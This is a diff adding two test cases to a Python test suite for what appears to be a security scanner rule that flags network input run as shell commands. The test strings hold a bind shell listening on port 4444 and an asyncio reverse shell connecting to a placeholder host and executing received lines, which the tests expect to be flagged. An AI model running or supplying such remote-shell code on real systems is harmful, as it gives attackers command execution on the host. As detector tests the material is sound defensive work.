@@ -234,3 +234,26 @@ peer = socket.socket().recv(100)
 subprocess.Popen([sys.executable, "-c", "import package; package.work('%s')" % peer])
 """
     assert scan(RULE, text) == []
+
+
+def test_a_shell_that_listens(scan):
+    text = """import socket, subprocess
+def serve():
+    s = socket.socket()
+    s.bind(("0.0.0.0", 4444))
+    s.listen(1)
+    other, _ = s.accept()
+    line = other.recv(1024).decode()
+    other.send(subprocess.getoutput(line).encode())
+"""
+    assert scan(RULE, text) == [(8, "HIGH", "HIGH", "run")]
+
+
+def test_streams_of_asyncio(scan):
+    text = """import asyncio
+async def main():
+    reader, writer = await asyncio.open_connection("c.example.test", 4444)
+    line = (await reader.readline()).decode()
+    await asyncio.create_subprocess_shell(line)
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
